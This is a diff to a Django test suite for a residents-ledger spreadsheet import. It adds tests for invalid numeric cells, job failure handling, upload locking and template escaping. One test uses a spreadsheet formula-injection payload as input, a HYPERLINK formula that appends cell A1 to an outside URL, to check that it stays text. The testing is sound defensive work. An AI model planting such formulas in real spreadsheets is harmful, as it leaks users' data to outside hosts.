@@ -2,6 +2,7 @@
 
 import base64
 import io
+import zipfile
 from collections.abc import Sequence
 from datetime import date
 
@@ -9,16 +10,18 @@ import pytest
 import python_calamine
 import xlsxwriter
 import xlwt
-from django.db import connection
+from django.db import connection, connections
 from django.test.utils import CaptureQueriesContext
 
 from linli.kernel.errors import Invalid, NotNow, NotPermitted, NotVisible
 from linli.kernel.fields import open_sealed
-from linli.kernel.models import LogEntry
+from linli.kernel.jobs import give_up
+from linli.kernel.models import LogEntry, Progress
 from linli.people import contract as people
+from linli.people import jobs
 from linli.people.models import HouseholdMember, ImportBatch, ImportRow, Person, Residence
 from linli.people.operations import ledger
-from linli.people.operations.ledger import load, sheets
+from linli.people.operations.ledger import load, sheets, upload
 from linli.people.tests.conftest import World
 from linli.people.tests.factories import id_number, worker
 from linli.places import contract as places
@@ -102,6 +105,52 @@ def test_more_than_five_in_a_hundred_refuses_all_and_five_does_not(world: World)
     assert batch.state == ImportBatch.State.REFUSED
     with pytest.raises(NotNow):
         ledger.start_loading(world.worker, batch.pk)
+
+
+@pytest.mark.parametrize("area", ["NaN", "-nan", "Infinity", "-inf", "1e999999", "sNaN"])
+def test_an_area_that_is_no_number_is_a_wrong_cell(world: World, area: str) -> None:
+    titles = (*TITLES, "建筑面积")
+    rows = [[*line(1), area], *([*row, "71.4"] for row in good(30))]
+    batch = checked(world, csv_file(rows, titles))
+    assert batch.state == ImportBatch.State.READY
+    assert [(number, title) for number, title, _ in problems(batch)] == [(2, "建筑面积")]
+
+
+def test_a_check_that_always_fails_ends_with_an_answer_and_the_next_file_may_come(world: World) -> None:
+    batch = ledger.upload_ledger(world.worker, world.place.id, "台账.csv", csv_file(good(3)))
+    with pytest.raises(NotNow, match="还没办完"):
+        ledger.upload_ledger(world.worker, world.place.id, "台账.csv", csv_file(good(3)))
+    stored = jobs.check.in_regions([world.place.id]).stored((batch.pk,), {})
+    give_up(jobs.check.title, stored)
+    batch.refresh_from_db()
+    assert batch.state == ImportBatch.State.REFUSED
+    assert batch.outcome == "没核对成，登记没有动"
+    assert Progress.objects.get(kind="people.ledger").message == batch.outcome
+    assert checked(world, csv_file(good(3))).state == ImportBatch.State.READY
+    give_up(jobs.check.title, stored)  # said twice, done once
+    assert ledger.drop_ledger(world.worker, batch.pk).state == ImportBatch.State.DROPPED
+
+
+def test_a_batch_under_check_can_be_given_up_and_the_check_leaves_it(world: World) -> None:
+    batch = ledger.upload_ledger(world.worker, world.place.id, "台账.csv", csv_file(good(3)))
+    ledger.drop_ledger(world.worker, batch.pk)
+    ledger.check_ledger(world.worker, batch.pk)
+    batch.refresh_from_db()
+    assert batch.state == ImportBatch.State.DROPPED
+    assert not batch.rows.exists()
+
+
+def test_two_files_of_one_community_are_not_taken_at_once(world: World) -> None:
+    other = connections.create_connection("default")
+    try:
+        with other.cursor() as cursor:
+            cursor.execute("SELECT pg_advisory_lock(%s, hashtext(%s))", [upload.LOCK, str(world.place.id)])
+        with pytest.raises(NotNow, match="正在传"):
+            ledger.upload_ledger(world.worker, world.place.id, "二.csv", csv_file(good(3)))
+    finally:
+        other.close()
+    assert not ImportBatch.objects.exists()
+    ledger.upload_ledger(world.worker, world.place.id, "二.csv", csv_file(good(3)))
 
 
 def test_lower_case_x_and_full_width_are_taken(world: World) -> None:
@@ -278,6 +327,15 @@ def test_the_error_file_marks_cells_and_can_be_uploaded_again(world: World) -> N
 def test_the_template_is_a_file_that_can_be_filled(world: World) -> None:
     book = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(sheets.template_sheet(["桂苑小区"])))
     assert book.get_sheet_by_index(0).to_python()[0][:4] == ["小区", "楼栋", "单元", "房号"]
+
+
+def test_a_compound_named_like_a_formula_stays_a_text_in_the_template(world: World) -> None:
+    name = '=HYPERLINK("http://example.org/?"&A1,"点我")'
+    with zipfile.ZipFile(io.BytesIO(sheets.template_sheet([name, "http://example.org/", "桂苑小区"]))) as parts:
+        pages = [parts.read(part).decode() for part in parts.namelist() if part.startswith("xl/worksheets/")]
+        texts = parts.read("xl/sharedStrings.xml").decode()
+    assert not any("<f>" in page or "hyperlink" in page for page in pages)
+    assert "HYPERLINK" in texts
 
 
 def test_nothing_personal_stands_in_the_open(world: World) -> None:
